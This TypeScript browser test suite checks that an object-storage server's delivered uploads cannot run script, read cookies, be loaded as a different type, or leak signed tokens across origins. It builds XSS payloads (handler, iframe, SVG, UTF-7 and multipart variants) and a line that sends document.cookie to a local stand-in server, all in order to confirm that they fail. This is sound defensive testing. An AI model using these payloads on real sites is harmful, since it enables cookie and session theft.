/**
 * Delivery and a real browser: what somebody uploaded runs no script and reads no cookie, nothing is taken for what it does not say it is, and
 * pages of other origins read what the bucket's rules let them, by links and by cookies.
 */
import assert from 'node:assert/strict'
import { once } from 'node:events'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { after, before, test } from 'node:test'
import type { Browser, BrowserContext, Page } from 'playwright-core'
import { launchBrowser, noBrowser } from '../harness/browser.ts'
import { byS3, exchanging, makeSigningKey, putObject, sitesOf, tokenOf, type SigningKey } from '../harness/delivery.ts'
import { managementClient, type ManagementClient } from '../harness/management.ts'
import { bucketName } from '../harness/names.ts'
import { startServer, type TestServer } from '../harness/server.ts'

const skip = process.env['ENTREPOT_TEST_ENDPOINT'] ? 'needs a server of its own' : noBrowser
const bucket = bucketName('pages')
let server: TestServer
let management: ManagementClient
let key: SigningKey
let browser: Browser
let pages: Server
/** What was asked of the server of the pages. */
const asked: string[] = []
/** The origin that the bucket's rules name, and one that they do not. */
let friend = ''
let stranger = ''

before(async () => {
  if (skip !== false) return
  server = await startServer({ tls: true })
  management = await managementClient(server)
  await byS3(server, { method: 'PUT', path: `/${bucket}` })
  await management.done(`PUT /v1/buckets/${bucket}/policy/authenticated`)
  key = await makeSigningKey(management, bucket)
  // Serves whatever page is asked for as the query says, as a server does that does not know better.
  pages = createServer(({ url = '' }, response) => {
    asked.push(url)
    const { searchParams } = new URL(url, 'http://here')
    response.writeHead(200, { 'content-type': searchParams.get('type') ?? 'text/html', 'set-cookie': 'mine=1' })
    response.end(searchParams.get('body') ?? '<!doctype html><title>A page</title>')
  }).listen(0, '127.0.0.1')
  await once(pages, 'listening')
  const { port } = pages.address() as AddressInfo
  friend = `http://127.0.0.1:${port}`
  stranger = `http://localhost:${port}`
  await management.done(`PUT /v1/buckets/${bucket}/settings/cors`, { preset: 'video-player', origins: [friend] })
  browser = await launchBrowser()
})
after(async () => {
  await browser?.close()
  pages?.close()
  pages?.closeAllConnections()
  await server?.stop()
})

const tokenFor = (uri: string): string => tokenOf(key, { uri, exp: Math.floor(Date.now() / 1000) + 600 })

/** Over TLS, the bucket's host. */
const origin = (): string => `https://${sitesOf(server, bucket)[0]!.hostOver('tls')}`

async function inBrowser<T>(work: (page: Page, context: BrowserContext) => Promise<T>): Promise<T> {
  const context = await browser.newContext({ ignoreHTTPSErrors: true })
  try {
    return await work(await context.newPage(), context)
  } finally {
    await context.close()
  }
}

/** Each tells the server of the pages that it ran. */
const scripts = (told: string): readonly (readonly [name: string, type: string, body: string])[] => {
  const tell = `fetch('${told}?ran='+encodeURIComponent(document.cookie||'no-cookie'));document.title='ran'`
  const image = `new Image().src='${told}?ran=image'`
  const xml = (root: string): string => `<?xml version="1.0"?>${root}`
  return [
    ['inline.html', 'text/html', `<!doctype html><title>still</title><script>${tell}</script>`],
    [
      'handlers.html',
      'text/html',
      `<!doctype html><title>still</title><body onload="${tell}"><img src=x onerror="${image}"><svg onload="${image}">`,
    ],
    [
      'frames.html',
      'text/html',
      `<!doctype html><title>still</title><iframe srcdoc="<script>${image}</script>"></iframe><iframe src="javascript:${image}"></iframe><object data="data:text/html,<script>${image}</script>"></object><embed src="drawing.svg">`,
    ],
    [
      'loads.html',
      'text/html',
      `<!doctype html><title>still</title><script src="${told}?ran=src&type=text/javascript"></script><img src="${told}?ran=img"><link rel=stylesheet href="${told}?ran=css"><iframe src="${told}?ran=frame"></iframe><meta http-equiv=refresh content="0;url=${told}?ran=refresh">`,
    ],
    ['untyped.html', '', `<!doctype html><title>still</title><script>${tell}</script>`],
    [
      'drawing.svg',
      'image/svg+xml',
      `<svg xmlns="http://www.w3.org/2000/svg" onload="${image}"><script>${tell}</script><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${image}"/></foreignObject></svg>`,
    ],
    [
      'page.xhtml',
      'application/xhtml+xml',
      xml(
        `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>still</title></head><body><script>${tell}</script></body></html>`,
      ),
    ],
    ['text.xml', 'text/xml', xml(`<a><script xmlns="http://www.w3.org/1999/xhtml">${tell}</script></a>`)],
    [
      'feed.rss',
      'application/rss+xml',
      xml(`<a xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${tell}</h:script></a>`),
    ],
    [
      'mixed',
      'multipart/x-mixed-replace;boundary=b',
      `--b\r\nContent-Type: text/html\r\n\r\n<script>${tell}</script>\r\n--b--`,
    ],
    ['seven', 'text/html; charset=utf-7', `+ADw-script+AD4-${tell}+ADw-/script+AD4-`],
    ['no-page.txt', 'text/plain', `<script>${tell}</script>`],
    ['no-page.png', 'image/png', `<html><script>${tell}</script>`],
    ['no-page.json', 'application/json', `<html><script>${tell}</script>`],
    ['no-page.mp4', 'video/mp4', `<html><script>${tell}</script>`],
    ['no-page', '', `<html><script>${tell}</script>`],
    ['no-page.css', 'text/css', `<html><script>${tell}</script>`],
  ]
}

test(
  'what was uploaded runs no script in a browser and reads no cookie, whatever type it was stored with',
  { skip },
  async () => {
    const told = `${friend}/told`
    await inBrowser(async (page) => {
      // That it would: the same from a server that does nothing against it.
      const [, , body] = scripts(told)[0]!
      await page.goto(`${friend}/?body=${encodeURIComponent(body)}`)
      await page.waitForFunction("document.title === 'ran'")
      assert.ok(asked.some((url) => url.startsWith('/told?ran=')))
    })
    asked.length = 0
    for (const [name, type, body] of scripts(told))
      await putObject(server, bucket, `up/${name}`, body, type === '' ? {} : { headers: { 'content-type': type } })
    await inBrowser(async (page, context) => {
      const token = tokenFor('/up')
      await page.goto(origin() + exchanging('/', 'up/no-page.txt', token))
      assert.deepEqual(
        (await context.cookies()).map(({ name, httpOnly, secure }) => ({ name, httpOnly, secure })),
        [{ name: 'auth', httpOnly: true, secure: true }],
      )
      for (const [name] of scripts(told)) {
        // Some are downloads, or no page to the browser: then there is nothing to run either.
        await page.goto(`${origin()}/up/${name}`, { waitUntil: 'load', timeout: 5000 }).catch(() => undefined)
        const seen = await page
          .evaluate<{ title: string; cookie: string }>(
            `(() => { let cookie; try { cookie = document.cookie } catch (error) { cookie = '' } return { title: document.title, cookie } })()`,
          )
          .catch(() => ({ title: '', cookie: '' }))
        assert.notEqual(seen.title, 'ran', name)
        assert.equal(seen.cookie, '', name)
      }
      await page.goto(`${friend}/last`)
    })
    assert.deepEqual(
      asked.filter((url) => url.includes('ran')),
      [],
    )
  },
)

test(
  'a page of another origin can make no script, style or frame of its own kind of what says it is something else',
  { skip },
  async () => {
    const script = "document.title = 'ran'"
    for (const [name, type] of [
      ['s.js', 'text/javascript'],
      ['s.txt', 'text/plain'],
      ['s.png', 'image/png'],
      ['s.json', 'application/json'],
      ['s', ''],
    ] as const)
      await putObject(server, bucket, `up/${name}`, script, type === '' ? {} : { headers: { 'content-type': type } })
    const token = tokenFor('/up')
    await inBrowser(async (page) => {
      const titles: string[] = []
      for (const name of ['s.js', 's.txt', 's.png', 's.json', 's']) {
        await page.goto(
          `${friend}/?body=${encodeURIComponent(`<title>still</title><script src="${origin()}/up/${name}?auth=${token}"></script>`)}`,
          { waitUntil: 'load' },
        )
        titles.push(await page.title())
      }
      assert.deepEqual(titles, ['ran', 'still', 'still', 'still', 'still'])
    })
  },
)

/** Runs in the page, as a player: a playlist, then its segments by ranges; gives what it could see of each answer. */
const playInPage = async ({ url, credentials = 'omit' }: { url: string; credentials?: 'omit' | 'include' }) => {
  const see = async (from: string, headers: Record<string, string>) => {
    const answer = await fetch(from, { headers, credentials })
    const seen = (name: string): string | null => answer.headers.get(name)
    return {
      text: await answer.text(),
      told: [
        answer.status,
        seen('content-range'),
        seen('content-length') !== null,
        seen('etag') !== null,
        seen('x-request-id'),
      ],
    }
  }
  try {
    const playlist = await see(url, {})
    const segments = playlist.text.split('\n').filter((line) => /^[^#]+\.ts/.test(line))
    const parts = []
    for (const segment of segments) parts.push(await see(new URL(segment, url).href, { range: 'bytes=2-5' }))
    // With a condition, which has the browser ask first.
    const [again] =
      segments.length === 0 ? [] : [await see(new URL(segments[0]!, url).href, { 'if-none-match': '"x"' })]
    return { playlist: playlist.told, parts, again: again?.told }
  } catch (error) {
    return { playlist: [String(error)], parts: [] }
  }
}

test(
  'the preset for players lets the pages that it names read playlists, ranges and refusals, and no others',
  { skip },
  async () => {
    await putObject(server, bucket, 'film/list.m3u8', '#EXTM3U\n#EXTINF:4,\none.ts\n#EXTINF:4,\ntwo.ts\n')
    for (const name of ['one.ts', 'two.ts']) await putObject(server, bucket, `film/${name}`, `0123456789 of ${name}`)
    const token = tokenFor('/film')
    const url = `${origin()}/film/list.m3u8`
    const part = { text: '2345', told: [206, 'bytes 2-5/20', true, true, null] }
    await inBrowser(async (page) => {
      await page.goto(`${friend}/`)
      for (const link of [`${url}?auth=${token}`, `${origin()}/~auth=${token}/film/list.m3u8`])
        assert.deepEqual(await page.evaluate(playInPage, { url: link }), {
          playlist: [200, null, true, true, null],
          parts: [part, part],
          again: [200, null, true, true, null],
        })
      // The player is told why, not that the network failed.
      const refused = await page.evaluate(playInPage, { url })
      assert.equal(refused.playlist[0], 403)
      const gone = await page.evaluate(playInPage, { url: `${origin()}/film/none?auth=${token}` })
      assert.equal(gone.playlist[0], 404)
      const sendsMore = `fetch('${url}?auth=${token}', { headers: { 'x-more': '1' } }).then(({ status }) => status, String)`
      assert.match(String(await page.evaluate(sendsMore)), /Failed to fetch/)
      const writes = `fetch('${url}?auth=${token}', { method: 'PUT', body: 'x' }).then(({ status }) => status, String)`
      assert.match(String(await page.evaluate(writes)), /Failed to fetch/)

      await page.goto(`${stranger}/`)
      const [seen] = (await page.evaluate(playInPage, { url: `${url}?auth=${token}` })).playlist
      assert.match(String(seen), /Failed to fetch/)
    })
  },
)

test('a page of another origin that has fetched the cookie once plays by plain addresses', { skip }, async () => {
  const token = tokenFor('/film')
  const url = `${origin()}/film/list.m3u8`
  await inBrowser(async (page) => {
    await page.goto(`${friend}/`)
    const before = await page.evaluate(playInPage, { url, credentials: 'include' as const })
    assert.equal(before.playlist[0], 403)
    const exchange = `fetch('${origin()}${exchanging('/', 'film/list.m3u8', token)}', { credentials: 'include' }).then(({ status, url }) => [status, url])`
    assert.deepEqual(await page.evaluate(exchange), [200, url])
    const played = await page.evaluate(playInPage, { url, credentials: 'include' as const })
    assert.deepEqual([played.playlist[0], played.parts.map(({ text }) => text)], [200, ['2345', '2345']])
    // Without credentials there is no cookie.
    const bare = await page.evaluate(playInPage, { url })
    assert.equal(bare.playlist[0], 403)
  })
})

test('a link that is followed tells the next site nothing of its token', { skip }, async () => {
  await putObject(
    server,
    bucket,
    'up/links.html',
    `<!doctype html><title>links</title><a id=a href="${friend}/followed">a</a>`,
    {
      headers: { 'content-type': 'text/html' },
    },
  )
  const referrers: (string | undefined)[] = []
  pages.on('request', ({ url, headers }: { url?: string; headers: { referer?: string } }) => {
    if (url === '/followed') referrers.push(headers.referer)
  })
  const token = tokenFor('/up')
  await inBrowser(async (page) => {
    for (const link of [
      `/up/links.html?auth=${token}`,
      `/~auth=${token}/up/links.html`,
      exchanging('/', 'up/links.html', token),
    ]) {
      await page.goto(origin() + link)
      await page.click('#a')
      await page.waitForURL(`${friend}/followed`)
    }
  })
  assert.deepEqual(referrers, [undefined, undefined, undefined])
})
